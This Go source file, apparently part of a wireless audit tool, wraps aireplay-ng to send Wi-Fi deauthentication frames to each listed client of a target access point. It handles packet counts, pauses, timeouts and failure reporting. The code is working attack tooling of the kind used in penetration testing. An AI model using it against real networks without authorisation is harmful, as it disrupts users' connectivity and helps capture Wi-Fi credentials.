package aireplay

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/google/uuid"

	"github.com/zorenko/aircap/internal/adapters/execrunner"
	"github.com/zorenko/aircap/internal/core/domain"
	"github.com/zorenko/aircap/internal/core/ports"
	"github.com/zorenko/aircap/internal/telemetry"
)

// DefaultTool is the frame injection executable of the aircrack-ng suite.
const DefaultTool = "aireplay-ng"

const (
	// DefaultPacketCount is the deauth frame count per client when the
	// config does not set one.
	DefaultPacketCount = 3

	// DefaultPause is both the inter-client interval and the per-attempt
	// execution bound when the config does not set one.
	DefaultPause = 10 * time.Second
)

// Injector runs deauthentication batches: one injector invocation per
// client, strictly sequential, with a pause between attempts.
type Injector struct {
	runner   ports.ProcessRunner
	toolPath string
}

var _ ports.DeauthService = (*Injector)(nil)

// NewInjector creates an injector on top of the given process runner.
func NewInjector(runner ports.ProcessRunner) *Injector {
	return &Injector{runner: runner, toolPath: DefaultTool}
}

// SetToolPath overrides the injector executable path.
func (i *Injector) SetToolPath(path string) {
	if path != "" {
		i.toolPath = path
	}
}

// Run walks the client list in order. A missing injector executable aborts
// the remainder of the batch; any other per-client failure is recorded and
// the walk continues. The pause applies between attempts, not after the
// final one.
func (i *Injector) Run(ctx context.Context, cfg domain.DeauthConfig) (res domain.DeauthResult) {
	res = domain.DeauthResult{
		ID:        uuid.New().String(),
		StartTime: time.Now(),
	}
	defer func() {
		now := time.Now()
		res.EndTime = &now
	}()

	if err := cfg.Validate(); err != nil {
		res.Clients = append(res.Clients, domain.ClientResult{
			Outcome: domain.ClientFailed,
			Detail:  err.Error(),
		})
		return res
	}

	count := cfg.PacketCount
	if count <= 0 {
		count = DefaultPacketCount
	}
	pause := cfg.Pause
	if pause <= 0 {
		pause = DefaultPause
	}

	for idx, client := range cfg.Clients {
		if ctx.Err() != nil {
			res.Cancelled = true
			return res
		}

		outcome := i.deauthClient(ctx, cfg, client, count, pause)
		res.Clients = append(res.Clients, outcome)
		telemetry.DeauthAttemptsTotal.WithLabelValues(string(outcome.Outcome)).Inc()

		if outcome.Outcome == domain.ClientToolMissing {
			// No executable means no later attempt can fare better.
			return res
		}

		if idx < len(cfg.Clients)-1 {
			select {
			case <-time.After(pause):
			case <-ctx.Done():
				res.Cancelled = true
				return res
			}
		}
	}

	return res
}

// deauthClient performs one injector invocation against one station.
func (i *Injector) deauthClient(ctx context.Context, cfg domain.DeauthConfig, client string, count int, bound time.Duration) domain.ClientResult {
	out, err := i.runner.RunToCompletion(ctx, bound, i.toolPath,
		"-0", strconv.Itoa(count),
		"-a", cfg.APBSSID,
		"-c", client,
		cfg.Interface,
	)
	switch {
	case errors.Is(err, execrunner.ErrToolNotFound):
		telemetry.ToolFailuresTotal.WithLabelValues(i.toolPath).Inc()
		return domain.ClientResult{
			Station: client,
			Outcome: domain.ClientToolMissing,
			Detail:  err.Error(),
		}
	case err != nil:
		return domain.ClientResult{
			Station: client,
			Outcome: domain.ClientFailed,
			Detail:  err.Error(),
		}
	case out.TimedOut:
		return domain.ClientResult{
			Station: client,
			Outcome: domain.ClientTimedOut,
			Detail:  fmt.Sprintf("no completion within %s", bound),
		}
	case out.ExitCode != 0:
		return domain.ClientResult{
			Station: client,
			Outcome: domain.ClientFailed,
			Detail:  firstLine(out.Stderr),
		}
	}
	return domain.ClientResult{Station: client, Outcome: domain.ClientSucceeded}
}

// firstLine trims diagnostic output down to something loggable.
func firstLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		s = s[:i]
	}
	return s
}
